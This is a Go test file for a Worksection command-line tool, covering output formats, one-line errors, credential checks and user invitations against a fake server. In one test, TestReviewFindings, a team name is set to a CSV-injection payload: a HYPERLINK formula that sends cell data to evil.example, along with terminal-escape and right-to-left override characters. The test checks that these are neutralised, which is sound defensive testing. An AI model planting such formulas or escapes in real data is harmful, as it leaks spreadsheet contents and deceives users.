package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/time/rate"

	ws "github.com/worksection-go/worksection"
	"github.com/worksection-go/worksection/roster"
	"github.com/worksection-go/worksection/worksectiontest"
)

type result struct {
	code           int
	stdout, stderr string
}

// harness runs the command in-process with buffers.
type harness struct {
	t        *testing.T
	env      map[string]string
	tty      bool
	width    int // the terminal's width (0: unknown)
	config   string
	options  []ws.Option // replace the default (no rate limit)
	stdin    string
	stdinTTY bool          // whether stdin counts as a terminal (confirmation prompts)
	keyring  Keyring       // nil: none, so secrets go in files
	gap      time.Duration // doctor's pause between requests
}

func newHarness(t *testing.T, srv *worksectiontest.Server) *harness {
	// NO_COLOR: tables on a "terminal" are plain unless a test is about colour.
	h := &harness{t: t, env: map[string]string{"NO_COLOR": "1"}, config: t.TempDir(), gap: 10 * time.Millisecond}
	if srv != nil {
		h.env[envAccountURL], h.env[envAPIKey] = srv.URL, srv.APIKey
	}
	return h
}

func (h *harness) run(args ...string) result {
	return h.runCtx(context.Background(), &bytes.Buffer{}, args...)
}

func (h *harness) runCtx(ctx context.Context, stdout io.Writer, args ...string) result {
	var stderr bytes.Buffer
	code := Run(ctx, h.environ(stdout, &stderr), args)
	out := ""
	if b, ok := stdout.(interface{ String() string }); ok {
		out = b.String()
	}
	return result{code: code, stdout: out, stderr: stderr.String()}
}

// environ is the Env the harness runs the command in.
func (h *harness) environ(stdout, stderr io.Writer) Env {
	return Env{
		Getenv:          func(k string) string { return h.env[k] },
		Stdin:           strings.NewReader(h.stdin),
		Keyring:         h.keyring,
		Stdout:          stdout,
		Stderr:          stderr,
		IsTerminal:      func(io.Writer) bool { return h.tty },
		TermWidth:       func() int { return h.width },
		StdinIsTerminal: func() bool { return h.stdinTTY },
		ConfigDir:       func() (string, error) { return h.config, nil },
		Options:         append([]ws.Option{ws.WithRateLimit(rate.Inf, 0)}, h.options...),
		Browse:          browse,
		ProbeGap:        h.gap,
	}
}

// browse plays the user who clicks "Allow": the fake approves at once and
// redirects to the callback.
func browse(ctx context.Context, url string) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return
	}
	if resp, err := http.DefaultClient.Do(req); err == nil {
		resp.Body.Close()
	}
}

func lines(s string) []string { return strings.Split(strings.TrimRight(s, "\n"), "\n") }

// oneErrorLine checks the error contract: exit 1, one line on stderr.
func oneErrorLine(t *testing.T, r result, contains ...string) {
	t.Helper()
	assert.Equal(t, 1, r.code)
	require.Len(t, lines(r.stderr), 1, "%q", r.stderr)
	assert.True(t, strings.HasPrefix(r.stderr, "worksection: "), r.stderr)
	for _, c := range contains {
		assert.Contains(t, r.stderr, c)
	}
}

func TestUsersListFormats(t *testing.T) {
	t.Parallel()
	srv := worksectiontest.NewServer()
	defer srv.Close()
	h := newHarness(t, srv)

	r := h.run("users", "list") // not a terminal: JSON
	require.Equal(t, 0, r.code, r.stderr)
	assert.Empty(t, r.stderr)
	var users []ws.User
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &users))
	assert.Equal(t, shaped(t, srv.Users()), users)

	r = h.run("users", "list", "-o", "csv")
	require.Equal(t, 0, r.code)
	assert.Equal(t, "ID,NAME,EMAIL,ROLE,TEAM,DEPARTMENT,TITLE", lines(r.stdout)[0])
	assert.Len(t, lines(r.stdout), len(users)+1)
	assert.Contains(t, r.stdout, "3995,Олег Коваль,oleg.koval@acme.example,team admin,Development,Backend,Team lead\n")

	h.tty = true // a terminal: table
	r = h.run("users", "list")
	require.Equal(t, 0, r.code)
	assert.Regexp(t, `^ID +NAME +EMAIL +ROLE +TEAM +DEPARTMENT +TITLE\n`, r.stdout)
	assert.Contains(t, r.stdout, "3995  Олег Коваль    oleg.koval@acme.example     team admin")

	r = h.run("users", "list", "-o", "json")
	require.Equal(t, 0, r.code)
	assert.True(t, json.Valid([]byte(r.stdout)))

	oneErrorLine(t, h.run("users", "list", "-o", "yaml"), `unknown output format "yaml"`)
	oneErrorLine(t, h.run("users", "invite", "--email", "z@new.example", "-o", "yaml"), `unknown output format "yaml"`)
	assert.Nil(t, findUser(srv.Users(), "z@new.example"), "refused before inviting")
}

func TestTableAlignsWideCharacters(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	writeTable(&b, [][]string{
		{"NAME", "TEAM", "NOTE"},
		{"田中太郎", "開発", "x"},
		{"Zoë", "👍", "y"},
		{"Jose\u0301", "🇺🇦", ""},
	})
	assert.Equal(t, ""+
		"NAME      TEAM  NOTE\n"+
		"田中太郎  開発  x\n"+
		"Zoë       👍    y\n"+
		"Jose\u0301      🇺🇦    -\n", b.String())
	assert.Equal(t, "a[31mred line", clean("a\x1b[31mred\nline"), "no escapes, one line")
}

func TestCredentials(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	r := h.run("users", "list")
	require.Equal(t, 0, r.code)
	assert.Equal(t, []string{"worksection: WORKSECTION_ACCOUNT_URL and WORKSECTION_API_KEY are not set: using a built-in fake account with sample data (changes are not kept; no context is active)"}, lines(r.stderr))

	h.env[envAccountURL] = "https://acme.worksection.com"
	r = h.run("users", "list")
	oneErrorLine(t, r, "WORKSECTION_ACCOUNT_URL is set but WORKSECTION_API_KEY (or --api-key) is not")
	assert.Empty(t, r.stdout)

	h.env = map[string]string{envAPIKey: "secret-key-123"}
	r = h.run("users", "list")
	oneErrorLine(t, r, "WORKSECTION_API_KEY is set but WORKSECTION_ACCOUNT_URL (or --account-url) is not")
	assert.NotContains(t, r.stderr, "secret-key-123")

	oneErrorLine(t, newHarness(t, nil).run("users", "list", "--api-key", "k"), "--api-key is set but WORKSECTION_ACCOUNT_URL")

	// Flags win over the environment.
	srv := worksectiontest.NewServer()
	defer srv.Close()
	h.env = map[string]string{envAccountURL: "https://elsewhere.example", envAPIKey: "wrong"}
	r = h.run("teams", "list", "--account-url", srv.URL, "--api-key", srv.APIKey)
	require.Equal(t, 0, r.code, r.stderr)
	assert.Contains(t, r.stdout, "Northwind Traders")
}

func TestHelpExitsZero(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	for _, args := range [][]string{{"-h"}, {"--help"}, {"help"}, {"users", "--help"}, {"sync", "plan", "-h"}, {"users"}} {
		r := h.run(args...)
		assert.Equal(t, 0, r.code, "%v", args)
		assert.Contains(t, r.stdout, "Usage:", "%v", args)
		assert.Empty(t, r.stderr, "%v: no fake started, nothing on stderr", args)
	}
}

func TestErrorsAreOneLine(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	oneErrorLine(t, h.run("usrs"), `unknown command "usrs"`, "users")
	oneErrorLine(t, h.run("users", "list", "--bogus"), "unknown flag: --bogus", "worksection users list --help")
	oneErrorLine(t, h.run("users", "invite"), `required flag(s) "email" not set`)
	oneErrorLine(t, h.run("teams", "create"), "--title is required")
	oneErrorLine(t, h.run("teams", "create", "A", "B"), "accepts one title, received 2 arguments")
	oneErrorLine(t, h.run("teams", "create", "A", "--title", "B"), `the title is given twice: "A" and --title "B"`)
	oneErrorLine(t, h.run("subscribe", "--task", "x1", "--email", "a@b.example"), `--task "x1" is not a number`)
	oneErrorLine(t, h.run("sync", "plan", "--from", filepath.Join(t.TempDir(), "missing.csv")), "no such file")
	r := h.run("contacts", "add", "--email", "not-an-email", "--name", "X")
	oneErrorLine(t, r, "email")
	assert.Empty(t, r.stdout)
}

func TestTeamsContactsFolders(t *testing.T) {
	t.Parallel()
	srv := worksectiontest.NewServer()
	defer srv.Close()
	h := newHarness(t, srv)
	h.tty = true

	r := h.run("teams", "create", "Sales 営業")
	require.Equal(t, 0, r.code, r.stderr)
	assert.Regexp(t, `(?m)^\d+ +Sales 営業 +company +false$`, r.stdout)
	r = h.run("teams", "create", "--title", "Acme Client", "--client", "-o", "json")
	require.Equal(t, 0, r.code)
	var team ws.UserGroup
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &team), "a create prints one object: %s", r.stdout)
	assert.True(t, team.Client)
	r = h.run("teams", "list", "-o", "csv")
	assert.Contains(t, r.stdout, ",Sales 営業,company,false\n")
	assert.Len(t, srv.UserGroups(), len(worksectiontest.DefaultSeed().UserGroups)+2)

	r = h.run("contacts", "add", "--email", "new@contact.example", "--name", "Nina New", "--folder", "Clients")
	require.Equal(t, 0, r.code, r.stderr)
	assert.Contains(t, r.stdout, "Nina New")
	r = h.run("contacts", "list", "-o", "json")
	var contacts []ws.Contact
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &contacts))
	assert.Equal(t, shaped(t, srv.Contacts()), contacts)

	r = h.run("folders", "create", "Partners")
	require.Equal(t, 0, r.code, r.stderr)
	r = h.run("folders", "list")
	assert.Regexp(t, `(?m)^\d+ +Partners +folder$`, r.stdout)
	assert.Regexp(t, `(?m)^1 +USERS +preset$`, r.stdout)
}

func TestSubscribe(t *testing.T) {
	t.Parallel()
	srv := worksectiontest.NewServer()
	defer srv.Close()
	h := newHarness(t, srv)
	r := h.run("subscribe", "--task", "1203", "--email", "yuki.tanaka@acme.example")
	require.Equal(t, 0, r.code, r.stderr)
	assert.JSONEq(t, `{"task_id":"1203","email":"yuki.tanaka@acme.example","subscribed":true}`, r.stdout)
	assert.Equal(t, []string{"yuki.tanaka@acme.example"}, srv.TaskSubscribers("1203"))
	r = h.run("unsubscribe", "--task", "1203", "--email", "yuki.tanaka@acme.example", "-o", "csv")
	require.Equal(t, 0, r.code, r.stderr)
	assert.Equal(t, "TASK,EMAIL,SUBSCRIBED\n1203,yuki.tanaka@acme.example,false\n", r.stdout)
	assert.Empty(t, srv.TaskSubscribers("1203"))
	oneErrorLine(t, h.run("subscribe", "--task", "999999", "--email", "yuki.tanaka@acme.example"))
}

func TestUsersInvite(t *testing.T) {
	t.Parallel()
	srv := worksectiontest.NewServer()
	defer srv.Close()
	h := newHarness(t, srv)
	h.tty = true
	r := h.run("users", "invite", "--yes", "--email", "ann@new.example,bob@new.example", "--email", "kate.greenway@acme.example",
		"--team", "Sales", "--role", "Guest", "--department", "Field")
	require.Equal(t, 0, r.code, r.stderr)
	assert.Regexp(t, `(?m)^create team +Sales +done`, r.stdout)
	assert.Regexp(t, `(?m)^invite +ann@new.example +done`, r.stdout)
	assert.Contains(t, r.stdout, "Applied: 3 done, 0 failed, 0 skipped; 1 already a member, 0 rows refused.")
	assert.Equal(t, 1, strings.Count(r.stdout, "ann@new.example"), "nothing printed twice")
	assert.NotContains(t, r.stderr, "\n", "a bar on a terminal, no per-row lines")
	segments := strings.Split(r.stderr, "\r")
	assert.Contains(t, r.stderr, "(2/3)")
	assert.Empty(t, strings.TrimSpace(segments[len(segments)-1]+segments[len(segments)-2]), "the bar is erased when done")
	u := findUser(srv.Users(), "bob@new.example")
	require.NotNil(t, u)
	assert.Equal(t, ws.RoleGuest, u.Role)
	assert.Equal(t, "Sales", u.Group)
	assert.Equal(t, "Field", u.Department)

	h.tty = false
	r = h.run("users", "invite", "--yes", "--email", "cy@new.example", "--first-name", "Cy")
	require.Equal(t, 0, r.code, r.stderr)
	assert.Equal(t, []string{"[1/1] invite cy@new.example: done"}, lines(r.stderr), "plain progress lines off a terminal")
	var res applyResult
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &res))
	require.Len(t, res.Done, 1)

	oneErrorLine(t, h.run("users", "invite", "--yes", "--email", "a@x.example", "--role", "owner"),
		`1 row refused (first: row 1: a@x.example: role "owner" cannot be invited (want user, guest or reader))`)
}

func findUser(users []ws.User, email string) *ws.User {
	for i := range users {
		if roster.SameEmail(users[i].Email, email) {
			return &users[i]
		}
	}
	return nil
}

func TestVersionAndCompletion(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	r := h.run("version")
	require.Equal(t, 0, r.code)
	assert.Regexp(t, `^worksection \S+ \(SDK `+ws.Version+`, go`, r.stdout)
	for _, sh := range []string{"bash", "zsh", "fish", "powershell"} {
		r = h.run("completion", sh)
		assert.Equal(t, 0, r.code, sh)
		assert.Contains(t, r.stdout, "worksection", sh)
	}
	r = h.run("__complete", "users", "invite", "--role", "")
	assert.Equal(t, 0, r.code)
	assert.Equal(t, []string{"user", "guest", "reader", ":4"}, lines(r.stdout)[:4])
}

type roundTripper func(*http.Request) (*http.Response, error)

func (f roundTripper) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// Findings of the second review: the guard rail takes no zero, CSV output
// is safe to open in a spreadsheet and to print, half a login is an error.
func TestReviewFindings(t *testing.T) {
	t.Parallel()
	srv := worksectiontest.NewServer()
	defer srv.Close()
	h := newHarness(t, srv)
	people := writeCSV(t, "email\na@new.example\n")
	oneErrorLine(t, h.run("sync", "apply", "--from", people, "--max-invites", "0"), "--max-invites must be at least 1")
	assert.Zero(t, srv.ActionCount("add_user"))

	r := h.run("teams", "create", `=HYPERLINK("http://evil.example/?"&A1,"x")`+"\x1b[2J\u202e")
	require.Equal(t, 0, r.code, r.stderr)
	r = h.run("teams", "list", "-o", "csv")
	require.Equal(t, 0, r.code, r.stderr)
	assert.Contains(t, r.stdout, `'=HYPERLINK(`, "a formula is quoted, not run")
	assert.NotContains(t, r.stdout, "\x1b")
	assert.NotContains(t, r.stdout, "\u202e")

	half := newHarness(t, nil) // a context without its secret is an error, never the fake
	half.stdin = "k"
	require.Equal(t, 0, half.run("context", "create", "half", "--account-url", srv.URL, "--api-key-stdin").code)
	require.NoError(t, os.Remove(filepath.Join(half.config, "worksection", "secrets", "half")))
	oneErrorLine(t, half.run("users", "list"), `context "half" (`+hostOf(srv.URL)+`, api key) has no saved API key`)
}
